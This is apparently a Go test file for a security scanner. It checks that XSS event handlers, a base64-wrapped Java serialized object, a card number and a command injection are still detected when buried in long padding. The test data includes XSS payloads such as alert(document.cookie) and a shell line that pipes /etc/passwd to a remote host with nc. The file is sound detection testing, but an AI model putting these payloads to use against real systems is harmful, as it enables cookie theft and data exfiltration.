package scan_test

import (
	"encoding/base64"
	"math/rand/v2"
	"strings"
	"testing"
)

// TestWhatPadsATagHidesNoHandler puts attributes and blanks of any length before an event handler: a long text is read in parts.
func TestWhatPadsATagHidesNoHandler(t *testing.T) {
	t.Parallel()
	for size := 0; size < 6000; size += 61 {
		for _, tag := range []string{
			"<img" + strings.Repeat(" ", size) + " src=x onerror=alert(1)>",
			"<img title='" + strings.Repeat("a", size) + "' src=x onerror=alert(1)>",
			"<svg class=\"" + strings.Repeat("a b ", size/4) + "\"\tonload=alert(1)>",
		} {
			text := "<p>" + strings.Repeat("Some text. ", 100) + "</p>" + tag + strings.Repeat("More text. ", 100)
			if !hasType(judge(everything(), "application/json", asJSON(t, text)), "xss") {
				t.Errorf("the handler of %.20q... of %d bytes is not found", tag, len(tag))
			}
		}
	}
	for _, attack := range []string{"'-alert(document.cookie)-'", "<svg onload=alert(1)>", "\" onmouseover=alert(1) x=\""} {
		text := "if a <b then " + strings.Repeat("some text ", 200) + attack + strings.Repeat(" more text", 100)
		if want := strings.Repeat("some text ", 20) + attack + strings.Repeat(" more text", 20); hasType(judge(everything(), "", []byte(want)), "xss") &&
			!hasType(judge(everything(), "", []byte(text)), "xss") {
			t.Errorf("%s behind what looks like a tag is not found", attack)
		}
	}
	calm := "<p title='" + strings.Repeat("a", 1500) + "'>" + strings.Repeat("It's one=two or three(1) of them. ", 60) + "</p>"
	if found := webAttacks("strict-api", "text/html", []byte(calm)); len(found) > 0 {
		t.Errorf("%v", found)
	}
}

// TestWhatIsWrittenInBase64IsFoundInTextsOfBase64 has objects as long as files, and numbers on lines of their own between others of base64.
func TestWhatIsWrittenInBase64IsFoundInTextsOfBase64(t *testing.T) {
	t.Parallel()
	random := rand.NewChaCha8([32]byte{1})
	content := make([]byte, 6<<10)
	_, _ = random.Read(content)
	file := base64.StdEncoding.EncodeToString(content)
	object := "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA" + file
	for _, text := range []string{object, file[:4096] + "\n" + object, "data=" + object} {
		if !hasType(judge(everything(), "text/plain", []byte(text)), "deserialization") {
			t.Errorf("the object of %d bytes is not found: %.60s", len(text), text)
		}
	}
	var lines strings.Builder
	for i := 0; i < len(file); i += 64 {
		lines.WriteString(file[i:i+64] + "\n")
		if i == 2048 {
			lines.WriteString("4111111111111111\n")
		}
	}
	if !hasType(judge(everything(), "text/plain", []byte(lines.String())), "CARD") {
		t.Error("a card between lines of base64 is not found")
	}
}

// TestWhatPadsATextMakesNoCommandAnExample has words behind whose first letter a command goes on: where a long text is cut into parts,
// one may begin as a line of a shell does.
func TestWhatPadsATextMakesNoCommandAnExample(t *testing.T) {
	t.Parallel()
	for _, word := range []string{"xpython a ", "call 1 ", "#xpython a ", "xselect a from b; "} {
		for n := 100; n < 130; n++ {
			text := "Note: " + strings.Repeat(word, n) + "\n; cat /etc/passwd | nc 203.0.113.9 4444\n" + strings.Repeat(word, 3)
			if !hasType(judge(everything(), "text/plain", []byte(text)), "command_injection") {
				t.Errorf("the command behind %d times %q is not found", n, word)
				break
			}
		}
	}
}
